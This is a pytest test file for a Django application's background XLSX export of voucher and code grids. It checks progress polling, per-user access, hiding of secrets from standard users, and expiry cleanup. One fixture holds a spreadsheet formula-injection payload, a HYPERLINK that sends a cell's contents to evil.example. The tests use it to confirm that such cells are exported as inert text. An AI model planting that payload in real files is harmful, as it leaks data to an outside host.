"""Large XLSX downloads (#16 item 15): above a bound of rows a worker builds the file (pretix's pattern), from the
same query string through the same grid view as the page; the page follows its progress to a link; the file is
the page download's, secrets and spreadsheet safety included; only its user reaches it; it is kept a day."""

import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.models import Membership
from core.scoping import scopes_disabled
from grids import export as grid_export
from grids.models import Export
from grids.services import NOT_STARTED, STALLED, Download, run_export
from grids.tasks import build_export, clean_up_exports
from incentives.models import IncentiveCode, Voucher

VOUCHERS = "incentives:voucher-list"
EVIL_VENDOR = '=HYPERLINK("https://evil.example/?d="&J2,"x")'


@pytest.fixture(autouse=True)
def small_bound(settings, tmp_path):
    """Three rows are built in the request, four go to a worker; files land in the test's own folder."""
    settings.GRID_XLSX_REQUEST_ROWS = 3
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def vouchers(organization, make_vault):
    vault = make_vault(organization, vouchers=5, name="Main")
    with scopes_disabled():
        first = vault.vouchers.order_by("pk").first()
        Voucher.objects.filter(vault=vault).update(pin="9876")
        Voucher.objects.filter(pk=first.pk).update(vendor=EVIL_VENDOR, amount=Decimal("12.50"))
    return vault


def sheet_values(data: bytes) -> list[list]:
    return [[cell.value for cell in row] for row in load_workbook(io.BytesIO(data)).active.iter_rows()]


def stored_file(export: Export) -> bytes:
    with default_storage.open(export.file.name, "rb") as file:
        return file.read()


def inline_xlsx(client, url: str, settings) -> bytes:
    """The page's own download of ``url``, built in the request (the bound raised out of the way)."""
    settings.GRID_XLSX_REQUEST_ROWS = 1_000
    response = client.get(url)
    settings.GRID_XLSX_REQUEST_ROWS = 3
    assert response.status_code == 200 and response["Content-Type"].startswith("application/vnd.openxml")
    return b"".join(response.streaming_content)


def start(client, url: str, run: bool, capture) -> tuple[Export, object]:
    """GET the download ``url`` above the bound; with ``run``, the queued task runs at commit (eagerly)."""
    with capture(execute=run):
        response = client.get(url)
    assert response.status_code == 302, response.status_code
    with scopes_disabled():
        export = Export.objects.get()
    assert response["Location"] == export.get_absolute_url()
    return export, response


# --- the bound -----------------------------------------------------------------------------------------


def test_an_xlsx_within_the_bound_is_the_file_itself(client, admin_user, organization, make_vault):
    make_vault(organization, vouchers=3)
    client.force_login(admin_user)
    response = client.get(reverse(VOUCHERS) + "?format=xlsx")
    assert response.status_code == 200
    assert len(sheet_values(b"".join(response.streaming_content))) == 4  # the header and 3 rows
    with scopes_disabled():
        assert not Export.objects.exists()


def test_an_xlsx_above_the_bound_answers_the_export_started_page_not_the_file(
    client, admin_user, vouchers, django_capture_on_commit_callbacks
):
    client.force_login(admin_user)
    export, response = start(client, reverse(VOUCHERS) + "?vendor=ACME&sort=code&format=xlsx", False,
                             django_capture_on_commit_callbacks)
    assert (export.user, export.grid, export.path) == (admin_user, VOUCHERS, reverse(VOUCHERS))
    assert export.query_string == "sort=code&vendor=ACME"  # what picks and sorts the rows, not the format
    assert export.status == Export.Status.PENDING
    assert timedelta(hours=23) < export.expires_at - timezone.now() <= timedelta(hours=24)
    page = client.get(response["Location"])
    assert page.status_code == 200
    html = page.content.decode()
    assert 'data-progress-url="' + export.get_progress_url() in html and "Waiting for a worker" in html
    assert client.get(export.get_progress_url()).json() == {
        "status": "pending", "finished": False, "percent": 0, "phase": "queued", "done": 0, "total": 0}
    # CSV streams at any size: never a worker's job.
    csv = client.get(reverse(VOUCHERS) + "?format=csv")
    assert csv.status_code == 200 and csv["Content-Type"].startswith("text/csv")


def test_a_second_click_follows_the_export_under_way(client, admin_user, vouchers,
                                                     django_capture_on_commit_callbacks):
    client.force_login(admin_user)
    url = reverse(VOUCHERS) + "?format=xlsx"
    first, _ = start(client, url, False, django_capture_on_commit_callbacks)
    with django_capture_on_commit_callbacks() as queued:
        again = client.get(url)
    assert again["Location"] == first.get_absolute_url() and queued == []


# --- the worker's file -----------------------------------------------------------------------------------


def test_the_worker_writes_the_rows_and_safe_cells_of_the_page_download(
    client, admin_user, vouchers, settings, eager_celery, django_capture_on_commit_callbacks
):
    client.force_login(admin_user)
    url = reverse(VOUCHERS) + "?sort=-amount&format=xlsx"
    export, response = start(client, url, True, django_capture_on_commit_callbacks)
    export.refresh_from_db()
    assert export.status == Export.Status.READY, export.error
    assert (export.rows_done, export.total_rows) == (5, 5)
    data = stored_file(export)
    assert sheet_values(data) == sheet_values(inline_xlsx(client, url, settings))
    rows = sheet_values(data)
    assert rows[0][:3] == ["Code", "Vendor", "Amount"] and rows[1][1:3] == [EVIL_VENDOR, 12.5]  # sorted by amount
    assert sorted(row[0] for row in rows[1:]) == sorted(f"V{vouchers.pk}-{n}" for n in range(5))
    vendor = load_workbook(io.BytesIO(data)).active["B2"]
    assert vendor.data_type == "s" and vendor.quotePrefix  # a formula written as text, as the page's file


def test_a_standard_users_export_holds_no_secret(
    client, standard_user, vouchers, settings, eager_celery, django_capture_on_commit_callbacks
):
    client.force_login(standard_user)
    url = reverse(VOUCHERS) + "?format=xlsx"
    export, _ = start(client, url, True, django_capture_on_commit_callbacks)
    export.refresh_from_db()
    text = repr(sheet_values(stored_file(export)))
    assert f"V{vouchers.pk}-" not in text and "9876" not in text and "ACME" in text
    assert sheet_values(stored_file(export)) == sheet_values(inline_xlsx(client, url, settings))


def test_a_standard_users_export_of_codes_holds_only_issued_codes(
    client, organization, standard_user, make_pool, eager_celery, django_capture_on_commit_callbacks
):
    pool = make_pool(organization, codes=5, prefix="UNISSUED")
    with scopes_disabled():
        IncentiveCode.objects.filter(pk=pool.codes.order_by("pk").first().pk).update(code="ISSUED-1", issued_count=1)
    client.force_login(standard_user)
    export, _ = start(client, reverse("incentives:code-list") + "?format=xlsx", True,
                      django_capture_on_commit_callbacks)
    export.refresh_from_db()
    text = repr(sheet_values(stored_file(export)))
    assert export.rows_done == 5 and "UNISSUED" not in text and text.count("ISSUED-1") == 1


def test_a_member_demoted_since_the_click_gets_the_file_without_secrets(
    client, organization, admin_user, vouchers, eager_celery, django_capture_on_commit_callbacks
):
    client.force_login(admin_user)
    export, _ = start(client, reverse(VOUCHERS) + "?format=xlsx", False, django_capture_on_commit_callbacks)
    Membership.objects.filter(user=admin_user).update(role=Membership.Role.STANDARD)
    assert build_export(export.pk) == Export.Status.READY
    export.refresh_from_db()
    assert f"V{vouchers.pk}-" not in repr(sheet_values(stored_file(export)))


def test_a_user_no_longer_a_member_gets_no_file_and_is_told_why(
    client, admin_user, vouchers, django_capture_on_commit_callbacks
):
    client.force_login(admin_user)
    export, _ = start(client, reverse(VOUCHERS) + "?format=xlsx", False, django_capture_on_commit_callbacks)
    Membership.objects.filter(user=admin_user).delete()
    assert build_export(export.pk) == Export.Status.FAILED
    export.refresh_from_db()
    assert export.error == "You may no longer download these rows." and export.file.name == ""


# --- progress, link, access --------------------------------------------------------------------------------


def test_the_page_polls_progress_then_links_the_file(
    client, admin_user, vouchers, monkeypatch, django_capture_on_commit_callbacks
):
    client.force_login(admin_user)
    export, _ = start(client, reverse(VOUCHERS) + "?format=xlsx", False, django_capture_on_commit_callbacks)
    monkeypatch.setattr(grid_export, "CHUNK_ROWS", 2)  # progress every 2 rows
    seen = []

    def source(export):
        def rows():
            for n in range(10):
                if n == 7:
                    seen.append(client.get(export.get_progress_url()).json())
                yield [f"row {n}", n]
        return Download("rows", ["Name", "N"], rows(), 10)

    assert run_export(export.pk, source) == Export.Status.READY
    assert seen == [{"status": "running", "finished": False, "percent": 60, "phase": "writing", "done": 6,
                     "total": 10}]
    assert client.get(export.get_progress_url()).json()["finished"] is True
    html = client.get(export.get_absolute_url()).content.decode()
    assert 'data-testid="export-link"' in html and export.get_file_url() in html and "10 rows written" in html
    response = client.get(export.get_file_url())
    assert response.status_code == 200 and 'filename="rows.xlsx"' in response["Content-Disposition"]
    assert sheet_values(b"".join(response.streaming_content))[1:3] == [["row 0", 0], ["row 1", 1]]


def test_only_the_user_who_asked_reaches_an_export(
    client, organization, admin_user, make_member, make_organization, vouchers, eager_celery,
    django_capture_on_commit_callbacks,
):
    client.force_login(admin_user)
    export, _ = start(client, reverse(VOUCHERS) + "?format=xlsx", True, django_capture_on_commit_callbacks)
    urls = [export.get_absolute_url(), export.get_progress_url(), export.get_file_url()]
    assert [client.get(url).status_code for url in urls] == [200, 200, 200]
    for someone in (make_member(make_organization("Rival"), Membership.Role.ADMIN),
                    make_member(organization, Membership.Role.ADMIN)):  # another organization's, a colleague
        client.force_login(someone)
        assert [client.get(url).status_code for url in urls] == [404, 404, 404]
    client.logout()
    assert all(client.get(url).status_code == 302 for url in urls)  # to the login page


# --- nothing waits forever, nothing is kept past its day -------------------------------------------------


def test_an_export_no_worker_started_in_time_is_failed_with_its_reason_and_can_be_tried_again(
    client, admin_user, vouchers, settings, django_capture_on_commit_callbacks
):
    client.force_login(admin_user)
    url = reverse(VOUCHERS) + "?format=xlsx"
    export, _ = start(client, url, False, django_capture_on_commit_callbacks)
    with scopes_disabled():
        Export.objects.filter(pk=export.pk).update(created_at=timezone.now() - timedelta(seconds=301))
    state = client.get(export.get_progress_url()).json()
    assert (state["status"], state["finished"]) == ("failed", True)
    export.refresh_from_db()
    assert export.error == NOT_STARTED.format(minutes=5)
    html = client.get(export.get_absolute_url()).content.decode()
    assert "No worker started this export" in html and 'data-testid="export-retry"' in html
    assert build_export(export.pk) == Export.Status.FAILED  # a worker that comes late leaves it failed
    export.refresh_from_db()
    assert export.file.name == ""
    with django_capture_on_commit_callbacks() as queued:  # "Try again": a new export, queued
        again = client.get(url)
    with scopes_disabled():
        assert Export.objects.count() == 2 and again["Location"] != export.get_absolute_url()
    assert len(queued) == 1


def test_an_export_whose_worker_went_silent_is_failed_and_its_late_file_discarded(
    client, admin_user, vouchers, monkeypatch, django_capture_on_commit_callbacks, tmp_path
):
    client.force_login(admin_user)
    export, _ = start(client, reverse(VOUCHERS) + "?format=xlsx", False, django_capture_on_commit_callbacks)
    monkeypatch.setattr(grid_export, "CHUNK_ROWS", 1_000_000)  # no heartbeat until the end: a worker stuck

    def source(export):
        def rows():
            yield ["a"]
            with scopes_disabled():  # meanwhile the worker looked dead long enough
                Export.objects.filter(pk=export.pk).update(updated_at=timezone.now() - timedelta(seconds=601))
            assert client.get(export.get_progress_url()).json()["status"] == "failed"
            yield ["b"]
        return Download("rows", ["Name"], rows(), 2)

    assert run_export(export.pk, source) == Export.Status.FAILED
    export.refresh_from_db()
    assert export.error == STALLED and export.file.name == ""
    assert not list((tmp_path / "media").rglob("*.xlsx"))  # the late file went too


def test_expired_exports_are_deleted_with_their_files(client, organization, admin_user, tmp_path):
    now = timezone.now()

    def export(expires_at, name):
        stored = default_storage.save(f"exports/{organization.pk}/{name}.xlsx", ContentFile(b"xlsx"))
        with scopes_disabled():
            return Export.objects.create(organization=organization, user=admin_user, grid=VOUCHERS, path="/",
                                         status=Export.Status.READY, file=stored, file_name=f"{name}.xlsx",
                                         expires_at=expires_at)

    old, kept = export(now - timedelta(seconds=1), "old"), export(now + timedelta(hours=1), "kept")
    client.force_login(admin_user)
    assert client.get(old.get_file_url()).status_code == 404  # expired: no longer handed out, even before the job
    assert client.get(kept.get_file_url()).status_code == 200
    assert clean_up_exports() == (0, 1)
    with scopes_disabled():
        assert list(Export.objects.values_list("pk", flat=True)) == [kept.pk]
    assert not default_storage.exists(old.file.name) and default_storage.exists(kept.file.name)
    assert clean_up_exports() == (0, 0)
